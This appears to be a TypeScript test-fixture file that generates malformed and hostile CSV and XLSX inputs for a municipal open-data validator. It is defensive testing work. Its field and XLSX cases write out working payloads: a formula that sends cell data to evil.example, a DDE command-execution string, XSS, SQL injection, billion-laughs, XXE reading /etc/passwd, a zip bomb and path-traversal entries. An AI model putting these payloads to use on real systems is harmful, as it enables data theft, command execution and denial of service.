// Hostile and broken files for the corpus (issue 8): each with the outcome s5 must give.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import iconv from 'iconv-lite';
import { buildZip, minimalXlsxFiles } from '../../src/schemas/read/testing/build-zip.ts';

/** What validating the file must say (every stated part is checked). */
export interface FileExpectation {
  readable: boolean;
  /** The file passes validation (only for files that should). */
  valid?: boolean;
  encoding?: string;
  format?: string;
  /** Issue codes that must appear (report issues or, for unreadable files, the read error code). */
  codes?: string[];
  /** The standard schema that must be recognised. */
  schema?: string;
}

export interface FileCase {
  id: string;
  what: string;
  fileName: string;
  bytes: Uint8Array;
  expect: FileExpectation;
}

const REAL = path.resolve(import.meta.dirname, '../fixtures/real-csv');
const enc = (s: string) => new Uint8Array(Buffer.from(s, 'utf8'));
const sjis = (s: string) => new Uint8Array(iconv.encode(s, 'cp932'));
const cat = (...parts: Uint8Array[]) =>
  new Uint8Array(Buffer.concat(parts.map((p) => Buffer.from(p))));

const AED_HEADER =
  '都道府県コード又は市区町村コード,NO,都道府県名,市区町村名,名称,名称_カナ,住所,方書,緯度,経度,設置位置,電話番号,内線番号,法人番号,団体名,利用可能曜日,開始時間,終了時間,利用可能日時特記事項,小児対応設備の有無,URL,備考';
const AED_ROW =
  '012025,0000000001,北海道,函館市,函館市役所,ハコダテシヤクショ,北海道函館市東雲町4-13,,41.768793,140.728810,1階,0138-21-3111,,,総務課,月火水木金,08:45,17:30,,有,,';
const aed = (rows: string[], eol = '\r\n') => [AED_HEADER, ...rows].join(eol) + eol;

function utf16(text: string, le: boolean, bom: boolean): Uint8Array {
  const body = Buffer.from(text, 'utf16le');
  if (!le) body.swap16();
  const mark = bom ? Buffer.from(le ? [0xff, 0xfe] : [0xfe, 0xff]) : Buffer.alloc(0);
  return new Uint8Array(Buffer.concat([mark, body]));
}

function xlsx(sheet: string, sharedStrings?: string): Uint8Array {
  return buildZip(
    minimalXlsxFiles(sharedStrings === undefined ? { sheet } : { sheet, sharedStrings }),
  );
}

function encodingCases(): FileCase[] {
  const text = aed([AED_ROW]);
  return [
    {
      id: 'enc-utf8',
      what: 'UTF-8 without BOM',
      fileName: 'aed.csv',
      bytes: enc(text),
      expect: { readable: true, encoding: 'utf-8', schema: 'aed' },
    },
    {
      id: 'enc-utf8-bom',
      what: 'UTF-8 with BOM',
      fileName: 'aed.csv',
      bytes: cat(new Uint8Array([0xef, 0xbb, 0xbf]), enc(text)),
      expect: { readable: true, encoding: 'utf-8-bom', schema: 'aed' },
    },
    {
      id: 'enc-cp932',
      what: 'CP932 (Excel default)',
      fileName: 'aed.csv',
      bytes: sjis(text),
      expect: { readable: true, encoding: 'shift_jis', schema: 'aed' },
    },
    {
      id: 'enc-cp932-named-utf8',
      what: 'CP932 bytes in a file named *.utf8.csv',
      fileName: 'aed.utf8.csv',
      bytes: sjis(text),
      expect: { readable: true, encoding: 'shift_jis' },
    },
    {
      id: 'enc-utf16le-bom',
      what: 'UTF-16LE with BOM (Excel "Unicode text")',
      fileName: 'aed.txt',
      bytes: utf16(text.replaceAll(',', '\t'), true, true),
      expect: { readable: true, encoding: 'utf-16le', format: 'tsv' },
    },
    {
      id: 'enc-utf16be-bom',
      what: 'UTF-16BE with BOM',
      fileName: 'aed.csv',
      bytes: utf16(text, false, true),
      expect: { readable: true, encoding: 'utf-16be' },
    },
    {
      id: 'enc-utf16le-nobom',
      what: 'UTF-16LE without BOM (refused with advice to save with a BOM)',
      fileName: 'aed.csv',
      bytes: utf16(text, true, false),
      expect: { readable: false, codes: ['unreadable_encoding'] },
    },
    {
      id: 'enc-utf16be-nobom',
      what: 'UTF-16BE without BOM (refused with advice to save with a BOM)',
      fileName: 'aed.csv',
      bytes: utf16(text, false, false),
      expect: { readable: false, codes: ['unreadable_encoding'] },
    },
    {
      id: 'enc-invalid-utf8-late',
      what: 'UTF-8 Japanese text with invalid bytes later (refused: neither UTF-8 nor Shift_JIS)',
      fileName: 'aed.csv',
      bytes: cat(enc(aed([AED_ROW])), new Uint8Array([0xff, 0xfe, 0xc0, 0x80]), enc(',x\r\n')),
      expect: { readable: false, codes: ['unreadable_encoding'] },
    },
    {
      id: 'enc-invalid-utf8-overlong',
      what: 'overlong UTF-8 encodings of "/"',
      fileName: 'a.csv',
      bytes: cat(
        enc('名称,住所\r\n'),
        new Uint8Array([0xc0, 0xaf, 0xe0, 0x80, 0xaf]),
        enc(',x\r\n'),
      ),
      expect: { readable: true },
    },
    {
      id: 'enc-lone-surrogate',
      what: 'CESU-8 encoded surrogate',
      fileName: 'a.csv',
      bytes: cat(enc('名称\r\n'), new Uint8Array([0xed, 0xa0, 0x80]), enc('\r\n')),
      expect: { readable: true },
    },
    {
      id: 'enc-nul-bytes',
      what: 'NUL bytes inside cells',
      fileName: 'aed.csv',
      bytes: enc(aed([AED_ROW.replace('函館市役所', '函館\u0000市役所')])),
      expect: { readable: true, codes: ['nul_byte'] },
    },
    {
      id: 'enc-all-nul',
      what: 'a file of NUL bytes',
      fileName: 'a.csv',
      bytes: new Uint8Array(4096),
      expect: { readable: false },
    },
    {
      id: 'enc-mixed-sjis-utf8',
      what: 'UTF-8 header, Shift_JIS rows (two editors)',
      fileName: 'aed.csv',
      bytes: cat(enc(`${AED_HEADER}\r\n`), sjis(`${AED_ROW}\r\n`)),
      expect: { readable: true },
    },
    {
      id: 'enc-eucjp',
      what: 'EUC-JP (not supported: must say so or read as best effort)',
      fileName: 'a.csv',
      bytes: new Uint8Array(iconv.encode('名称,住所\r\n札幌,北海道\r\n', 'euc-jp')),
      expect: { readable: true },
    },
    {
      id: 'enc-binary-png',
      what: 'a PNG image named .csv',
      fileName: 'a.csv',
      bytes: new Uint8Array([
        0x89,
        0x50,
        0x4e,
        0x47,
        0x0d,
        0x0a,
        0x1a,
        0x0a,
        ...new Array(200).fill(0),
      ]),
      expect: { readable: false },
    },
    {
      id: 'enc-bom-only',
      what: 'only a UTF-8 BOM',
      fileName: 'a.csv',
      bytes: new Uint8Array([0xef, 0xbb, 0xbf]),
      expect: { readable: false, codes: ['empty_file'] },
    },
    {
      id: 'enc-halfwidth-kana-sjis',
      what: 'half-width kana in CP932',
      fileName: 'aed.csv',
      bytes: sjis(aed([AED_ROW.replace('ハコダテシヤクショ', 'ﾊｺﾀﾞﾃｼﾔｸｼｮ')])),
      expect: { readable: true, encoding: 'shift_jis', schema: 'aed' },
    },
    {
      id: 'enc-ibm-ext-chars',
      what: 'NEC/IBM extension characters (①, ㈱, 髙) in CP932',
      fileName: 'a.csv',
      bytes: sjis('名称,備考\r\n髙橋①,㈱テスト\r\n'),
      expect: { readable: true, encoding: 'shift_jis' },
    },
    {
      id: 'enc-emoji',
      what: 'emoji and characters outside the BMP',
      fileName: 'a.csv',
      bytes: enc('名称,備考\r\n𠮷野家🍜,😀\r\n'),
      expect: { readable: true, encoding: 'utf-8' },
    },
  ];
}

function shapeCases(): FileCase[] {
  const wide = Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(',');
  return [
    {
      id: 'shape-empty',
      what: 'an empty file',
      fileName: 'a.csv',
      bytes: new Uint8Array(0),
      expect: { readable: false, codes: ['empty_file'] },
    },
    {
      id: 'shape-newlines-only',
      what: 'only line breaks',
      fileName: 'a.csv',
      bytes: enc('\r\n\r\n\n\r'),
      expect: { readable: false },
    },
    {
      id: 'shape-header-only',
      what: 'a header without rows',
      fileName: 'aed.csv',
      bytes: enc(`${AED_HEADER}\r\n`),
      expect: { readable: true, codes: ['no_data_rows'] },
    },
    {
      id: 'shape-ragged-short',
      what: 'rows with too few fields',
      fileName: 'aed.csv',
      bytes: enc(aed([AED_ROW, '012025,2,北海道'])),
      expect: { readable: true, valid: false, codes: ['row_too_few_fields'] },
    },
    {
      id: 'shape-ragged-long',
      what: 'rows with too many fields',
      fileName: 'aed.csv',
      bytes: enc(aed([`${AED_ROW},extra,more`])),
      expect: { readable: true, valid: false, codes: ['row_too_many_fields'] },
    },
    {
      id: 'shape-100k-columns',
      what: 'a 100,000-column header',
      fileName: 'a.csv',
      bytes: enc(`${wide}\r\n`),
      expect: { readable: false, codes: ['too_many_columns'] },
    },
    {
      id: 'shape-lf',
      what: 'LF line endings',
      fileName: 'aed.csv',
      bytes: enc(aed([AED_ROW], '\n')),
      expect: { readable: true, schema: 'aed' },
    },
    {
      id: 'shape-cr',
      what: 'CR-only line endings (old Mac)',
      fileName: 'aed.csv',
      bytes: enc(aed([AED_ROW], '\r')),
      expect: { readable: true, schema: 'aed' },
    },
    {
      id: 'shape-mixed-eol',
      what: 'mixed line endings',
      fileName: 'aed.csv',
      bytes: enc(`${AED_HEADER}\r\n${AED_ROW}\n${AED_ROW.replace('0000000001', '0000000002')}\r`),
      expect: { readable: true, codes: ['mixed_line_endings'] },
    },
    {
      id: 'shape-no-final-eol',
      what: 'no line break at the end',
      fileName: 'aed.csv',
      bytes: enc(`${AED_HEADER}\r\n${AED_ROW}`),
      expect: { readable: true, schema: 'aed' },
    },
    {
      id: 'shape-blank-lines',
      what: 'blank lines between rows',
      fileName: 'aed.csv',
      bytes: enc(`${AED_HEADER}\r\n\r\n${AED_ROW}\r\n\r\n\r\n`),
      expect: { readable: true, codes: ['blank_line'] },
    },
    {
      id: 'shape-duplicate-header',
      what: 'a header with duplicate names',
      fileName: 'a.csv',
      bytes: enc('名称,名称,住所\r\na,b,c\r\n'),
      expect: { readable: true },
    },
    {
      id: 'shape-empty-header-cells',
      what: 'empty header cells',
      fileName: 'a.csv',
      bytes: enc(',,\r\na,b,c\r\n'),
      expect: { readable: true },
    },
    {
      id: 'shape-tsv',
      what: 'tab separated, named .csv',
      fileName: 'aed.csv',
      bytes: enc(aed([AED_ROW]).replaceAll(',', '\t')),
      expect: { readable: true, format: 'tsv' },
    },
    {
      id: 'shape-semicolon',
      what: 'semicolon separated (European Excel)',
      fileName: 'a.csv',
      bytes: enc('名称;住所\r\na;b\r\n'),
      expect: { readable: true },
    },
    {
      id: 'shape-one-cell',
      what: 'a single cell',
      fileName: 'a.csv',
      bytes: enc('x'),
      expect: { readable: true },
    },
    {
      id: 'shape-huge-row-count-tiny-rows',
      what: '20,000 one-character rows',
      fileName: 'a.csv',
      bytes: enc(`a\r\n${'1\r\n'.repeat(20_000)}`),
      expect: { readable: true },
    },
  ];
}

function quotingCases(): FileCase[] {
  const nested = `"${'""'.repeat(5000)}"`;
  return [
    {
      id: 'quote-comma-newline',
      what: 'quoted fields with commas and line breaks',
      fileName: 'aed.csv',
      bytes: enc(aed([AED_ROW.replace('1階', '"1階,\r\n正面"')])),
      expect: { readable: true, schema: 'aed' },
    },
    {
      id: 'quote-unterminated',
      what: 'an unterminated quote',
      fileName: 'aed.csv',
      bytes: enc(aed([AED_ROW.replace('1階', '"1階')])),
      expect: { readable: true, codes: ['unterminated_quote'] },
    },
    {
      id: 'quote-stray',
      what: 'a stray quote inside an unquoted field',
      fileName: 'aed.csv',
      bytes: enc(aed([AED_ROW.replace('1階', '1"階')])),
      expect: { readable: true, codes: ['stray_quote'] },
    },
    {
      id: 'quote-deep-escapes',
      what: '10,000 escaped quotes in one field',
      fileName: 'a.csv',
      bytes: enc(`名称,備考\r\n${nested},x\r\n`),
      expect: { readable: true },
    },
    {
      id: 'quote-only-quotes',
      what: 'a file of quote characters',
      fileName: 'a.csv',
      bytes: enc('"'.repeat(10_001)),
      expect: { readable: true },
    },
    {
      id: 'quote-after-close',
      what: 'text after a closing quote',
      fileName: 'a.csv',
      bytes: enc('名称,住所\r\n"ab"c,d\r\n'),
      expect: { readable: true },
    },
    {
      id: 'quote-fullwidth',
      what: 'full-width quotes (not CSV quotes)',
      fileName: 'a.csv',
      bytes: enc('名称,住所\r\n＂ab,c＂,d\r\n'),
      expect: { readable: true },
    },
  ];
}

function fieldCases(): FileCase[] {
  return [
    {
      id: 'field-50mb',
      what: 'a single 50 MB field',
      fileName: 'a.csv',
      bytes: enc(`名称,備考\r\nx,${'あ'.repeat(17_500_000)}\r\n`),
      expect: { readable: false, codes: ['field_too_large'] },
    },
    {
      id: 'field-50mb-quoted',
      what: 'a single 50 MB quoted field with line breaks',
      fileName: 'a.csv',
      bytes: enc(`名称,備考\r\nx,"${'a\n'.repeat(26_000_000)}"\r\n`),
      expect: { readable: false, codes: ['field_too_large'] },
    },
    {
      id: 'field-formula',
      what: 'spreadsheet formulas in cells',
      fileName: 'aed.csv',
      bytes: enc(
        aed([
          AED_ROW.replace('函館市役所', '=HYPERLINK("http://evil.example/?"&A1)')
            .replace('1階', "+cmd|' /C calc'!A0")
            .replace('0138-21-3111', '@SUM(1+1)'),
        ]),
      ),
      expect: { readable: true },
    },
    {
      id: 'field-markup',
      what: 'HTML and script in cells',
      fileName: 'aed.csv',
      bytes: enc(
        aed([
          AED_ROW.replace('函館市役所', '<script>alert(1)</script>').replace(
            '1階',
            '<img src=x onerror=alert(1)>',
          ),
        ]),
      ),
      expect: { readable: true, schema: 'aed' },
    },
    {
      id: 'field-sql',
      what: 'SQL in cells',
      fileName: 'aed.csv',
      bytes: enc(aed([AED_ROW.replace('函館市役所', "'); DROP TABLE resource; --")])),
      expect: { readable: true, schema: 'aed' },
    },
    {
      id: 'field-control-chars',
      what: 'control characters and bidi overrides',
      fileName: 'a.csv',
      bytes: enc('名称,備考\r\na\u0007\u001b[31m,\u202egnp.exe\r\n'),
      expect: { readable: true },
    },
    {
      id: 'field-wareki-broken',
      what: 'impossible 和暦 dates and broken check digits',
      fileName: 'aed.csv',
      bytes: enc(
        aed([AED_ROW.replace(',,,総務課', ',,1234567890123,総務課').replace('08:45', '25:61')]),
      ),
      expect: { readable: true, valid: false },
    },
  ];
}

function xlsxCases(): FileCase[] {
  const row = (r: number, cells: string[]) =>
    `<row r="${r}">${cells.map((c, i) => `<c r="${String.fromCharCode(65 + i)}${r}" t="inlineStr"><is><t>${c}</t></is></c>`).join('')}</row>`;
  const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"><!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;"><!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>`;
  const xxe = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&xxe;</t></si></sst>`;
  const sharedRow = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>';
  // A real bomb: 210 MB of spaces (over the reader's 200 MB budget) deflates to about 200 KB.
  const sheetHead = `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${row(1, ['名称'])}`;
  const bomb = buildZip([
    ...minimalXlsxFiles({ sheet: '' }).filter((f) => !f.name.includes('sheet1')),
    {
      name: 'xl/worksheets/sheet1.xml',
      data: Buffer.concat([
        Buffer.from(sheetHead),
        Buffer.alloc(210 * 1024 * 1024, 0x20),
        Buffer.from('</sheetData></worksheet>'),
      ]),
      deflate: true,
    },
  ]);
  return [
    {
      id: 'xlsx-ok',
      what: 'a minimal workbook',
      fileName: 'a.xlsx',
      bytes: xlsx(row(1, ['名称', '住所']) + row(2, ['札幌', '北海道'])),
      expect: { readable: true, format: 'xlsx' },
    },
    {
      id: 'xlsx-zip-bomb',
      what: 'a sheet that inflates to 210 MB (zip bomb)',
      fileName: 'a.xlsx',
      bytes: bomb,
      expect: { readable: false, codes: ['xlsx_unreadable'] },
    },
    {
      id: 'xlsx-billion-laughs',
      what: 'XML entity expansion (billion laughs) in sharedStrings',
      fileName: 'a.xlsx',
      bytes: xlsx(sharedRow, laughs),
      expect: { readable: false },
    },
    {
      id: 'xlsx-xxe',
      what: 'an external entity (XXE) reading /etc/passwd',
      fileName: 'a.xlsx',
      bytes: xlsx(sharedRow, xxe),
      expect: { readable: false },
    },
    {
      id: 'xlsx-truncated',
      what: 'a truncated workbook',
      fileName: 'a.xlsx',
      bytes: xlsx(row(1, ['名称'])).slice(0, 100),
      expect: { readable: false },
    },
    {
      id: 'xlsx-not-zip',
      what: 'CSV text named .xlsx',
      fileName: 'a.xlsx',
      bytes: enc('名称,住所\r\na,b\r\n'),
      expect: { readable: true },
    },
    {
      id: 'xlsx-no-sheets',
      what: 'a zip without a workbook',
      fileName: 'a.xlsx',
      bytes: buildZip([{ name: 'hello.txt', data: 'hi' }]),
      expect: { readable: false },
    },
    {
      id: 'xlsx-path-traversal-entry',
      what: 'zip entries named ../../evil',
      fileName: 'a.xlsx',
      bytes: buildZip([
        ...minimalXlsxFiles({ sheet: row(1, ['名称']) }),
        { name: '../../../../tmp/s5-evil', data: 'x' },
      ]),
      expect: { readable: true },
    },
    {
      id: 'xlsx-huge-dimension',
      what: 'a cell reference at XFD1048576',
      fileName: 'a.xlsx',
      bytes: xlsx('<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'),
      expect: { readable: false },
    },
  ];
}

function realCases(): FileCase[] {
  const files = [
    'yaizu_222127_aed.csv',
    'yaizu_222127_hinannjo.csv',
    'takamatsu_public_toilet_data.csv',
    'asahikawa_aed_SAMPLE_from_ash_aed_test_fixture.csv',
  ];
  return files.map((f) => ({
    id: `real-${f.replace(/\.csv$/, '')}`,
    what: `real municipal file ${f}, truncated at a random byte`,
    fileName: f,
    bytes: new Uint8Array(readFileSync(path.join(REAL, f))).slice(0, 777),
    expect: { readable: true },
  }));
}

/** Every file case. Large ones are built lazily by the caller only once. */
export function fileCases(): FileCase[] {
  return [
    ...encodingCases(),
    ...shapeCases(),
    ...quotingCases(),
    ...fieldCases(),
    ...xlsxCases(),
    ...realCases(),
  ];
}
